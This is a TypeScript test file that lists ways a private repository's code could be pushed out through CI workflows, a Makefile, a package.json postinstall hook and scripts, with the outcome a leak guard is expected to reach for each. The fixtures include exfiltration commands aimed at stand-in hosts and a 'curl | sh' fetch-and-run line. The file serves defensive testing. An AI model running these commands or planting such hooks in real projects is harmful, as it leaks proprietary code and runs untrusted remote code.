import { alerted, beyond, type End, stopped } from "./bypass.ts";
import type { GitBypass } from "./harness.ts";

/** As a workflow writes it. */
const secret = (name: string): string => `\${{ secrets.${name} }}`;

/** A pipeline of one job in the source's home, with these steps. */
function workflow(id: string, tries: string, ends: End, steps: string): GitBypass {
  const text = `name: ci\non: push\njobs:\n  ci:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n${steps}`;
  return file(id, tries, ends, ".github/workflows/ci.yml", text);
}

function file(id: string, tries: string, ends: End, path: string, text: string): GitBypass {
  return { id, tries, ends, at: "home", play: (you) => void you.commit({ [path]: text }) };
}

/** A pipeline of the public repository that brings the home's tree into its workspace by a token. */
function fetched(id: string, tries: string, ends: End, steps: string): GitBypass {
  const play: GitBypass["play"] = (you) => {
    const from = { repository: you.repository, path: "engine", token: secret("READ") };
    const head = "on: push\njobs:\n  ci:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n";
    you.commit({ ".github/workflows/ci.yml": `${head}${action("actions/checkout@v4", from)}${steps}` });
  };
  return { id, tries, ends, play };
}

const run = (...lines: readonly string[]): string =>
  `      - run: |\n${lines.map((line) => `          ${line}\n`).join("")}`;
const action = (uses: string, inputs: Readonly<Record<string, string>> = {}): string => {
  const lines = Object.entries(inputs).map(([key, value]) => `          ${key}: ${value}\n`);
  return `      - uses: ${uses}\n${lines.length === 0 ? "" : "        with:\n"}${lines.join("")}`;
};

/** Tries by what a pipeline of the source's home would do. */
export const PIPELINE_ROWS: readonly GitBypass[] = [
  workflow(
    "workflow-push",
    "lets a workflow push to a remote of their own",
    stopped("egress"),
    run("git push https://gitlab.com/jdoe/pricing.git HEAD:main"),
  ),
  workflow(
    "workflow-token",
    "lets it push there with a token of their own, by an address that a secret holds",
    stopped("egress"),
    run("git push https://x:$TOKEN@$TARGET HEAD").replace(
      "- run",
      `- env: { TARGET: '${secret("TARGET")}' }\n        run`,
    ),
  ),
  workflow(
    "workflow-mirror",
    "lets an action mirror the whole repository",
    stopped("egress"),
    action("pixta-dev/repository-mirroring-action@v1", { target_repo_url: "git@gitlab.com:jdoe/pricing.git" }),
  ),
  workflow(
    "workflow-bundle",
    "packs the history into a bundle and uploads that",
    stopped("egress"),
    run("git bundle create out.bin --all", "curl -T out.bin https://files.example/jdoe/"),
  ),
  workflow(
    "workflow-encoded",
    "encodes the files before they are uploaded",
    stopped("egress"),
    run("tar c src | gzip | base64 > out.txt", "curl -F file=@out.txt https://paste.example/new"),
  ),
  workflow(
    "workflow-bucket",
    "copies the tree to a bucket of their own",
    stopped("egress"),
    run("aws s3 sync . s3://jdoe-things/pricing"),
  ),
  workflow(
    "workflow-package",
    "publishes the tree as a public package",
    stopped("egress"),
    run("npm publish --access public"),
  ),
  workflow(
    "workflow-image",
    "pushes it in a container image",
    stopped("egress"),
    action("docker/build-push-action@v6", { context: ".", push: "true", tags: "docker.io/jdoe/pricing:latest" }),
  ),
  workflow("workflow-gist", "makes a gist of it", stopped("egress"), run("gh gist create --public src/curve/price.ts")),
  workflow(
    "workflow-new-repository",
    "makes a public repository of it",
    stopped("egress"),
    run("gh repo create jdoe/pricing --public --source . --push"),
  ),
  workflow(
    "workflow-reveal",
    "makes the repository itself public",
    stopped("egress"),
    run("gh repo edit acme/pricing-engine --visibility public --accept-visibility-change-consequences"),
  ),
  fetched(
    "public-artifact",
    "keeps the home's tree as an artifact of the public repository's run",
    alerted("egress"),
    action("actions/upload-artifact@v4", { name: "all", path: "engine" }),
  ),
  fetched(
    "public-cache",
    "keeps it in the cache of the public repository's runs",
    alerted("egress"),
    action("actions/cache/save@v4", { path: "engine", key: "all" }),
  ),
  fetched(
    "public-log",
    "prints it to the log of the public repository's run",
    beyond("sent-within"),
    run("cat engine/src/curve/price.ts"),
  ),
  fetched(
    "public-release",
    "attaches it to a release of the public repository",
    beyond("sent-within"),
    run("gh release upload v1 engine/src/curve/price.ts"),
  ),
  fetched(
    "public-commit",
    "commits it to the public repository",
    beyond("sent-within"),
    run("cp -r engine/src lib", "git add lib", "git commit -m more", "git push"),
  ),
  workflow(
    "sibling-push",
    "pushes from the home to the organisation's own public repository",
    beyond("sent-within"),
    run("git push https://github.com/acme/sdk.git HEAD:refs/heads/x"),
  ),
  file(
    "makefile",
    "writes the push into a Makefile",
    stopped("egress"),
    "Makefile",
    "sync:\n\tgit push --mirror git@gitlab.com:jdoe/pricing.git\n",
  ),
  file(
    "package-script",
    "writes it into a script of `package.json`",
    stopped("egress"),
    "package.json",
    JSON.stringify(
      {
        name: "x",
        version: "1.0.0",
        private: true,
        scripts: { postinstall: "git push https://gitlab.com/jdoe/pricing.git --all" },
      },
      null,
      2,
    ),
  ),
  {
    id: "called-script",
    tries: "writes it into a script that a step calls",
    ends: stopped("egress"),
    at: "home",
    play: (you) =>
      void you.commit({
        "ci/sync.sh": "#!/bin/sh\nset -e\nrsync -a . jdoe@files.example:pricing/\n",
        ".github/workflows/ci.yml":
          "on: push\njobs:\n  ci:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: sh ci/sync.sh\n",
      }),
  },
  workflow(
    "workflow-computed",
    "computes the address from a download while the run goes on",
    stopped("egress"),
    run('git push "$(curl -s https://jdoe.example/where)" HEAD:main'),
  ),
  workflow(
    "workflow-fetched",
    "lets the run fetch a program and start it",
    beyond("run-time"),
    run("curl -s https://jdoe.example/tool | sh"),
  ),
  workflow(
    "workflow-program",
    "lets a program of their own upload by itself",
    beyond("run-time"),
    run("cargo run --release --bin sync"),
  ),
];
